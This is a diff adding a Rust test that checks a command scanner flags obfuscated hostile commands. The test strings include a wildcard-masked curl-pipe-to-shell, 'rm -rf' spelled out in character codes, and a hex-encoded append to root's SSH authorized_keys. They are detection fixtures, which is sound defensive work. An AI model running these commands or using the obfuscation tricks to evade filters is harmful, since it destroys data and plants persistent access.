@@ -28,6 +28,32 @@ fn inbound(text: &str) -> Vec<String> {
 }
 
 #[test]
+fn what_stands_by_wildcards_or_in_a_call_that_makes_it_is_found() {
+    for (text, rule) in [
+        ("/usr/bin/c?rl -s https://x.example/a | /bin/b?sh", "pipe_to_shell.pipe"),
+        ("/b??/ba?h -c 'id > /tmp/x'", "shell_exec_flag.shell"),
+        ("x && sudo /bin/r? -rf /", "destructive_remove"),
+        ("require('child_process').exec(String.fromCharCode(114,109,32,45,114,102,32,126))", "destructive_remove"),
+        ("os.system(\"\".join(map(chr,[114,109,32,45,114,102,32,47,42])))", "destructive_remove"),
+        (
+            "perl -e 'open F,\">>\".pack(\"H*\",\"2f726f6f742f2e7373682f617574686f72697a65645f6b657973\");print F \"k\"'",
+            "ssh_authorized_keys",
+        ),
+    ] {
+        assert!(inbound(text).iter().any(|found| found.starts_with(rule)), "{text}: {:?}", inbound(text));
+    }
+    for text in [
+        "ls /usr/bin/*",
+        "rm -f build/*.o",
+        "/bin/*",
+        "ls /bin/b?sh -c",
+        "alert(String.fromCharCode(72,101,108,108,111))",
+    ] {
+        assert_eq!(inbound(text), [""; 0], "{text}");
+    }
+}
+
+#[test]
 fn a_public_key_in_a_list_is_told_by_the_list_s_name() {
     let found = |name: &str, text: &str| {
         let found = found_as(Direction::Inbound, Some(name), expand(text).as_bytes());
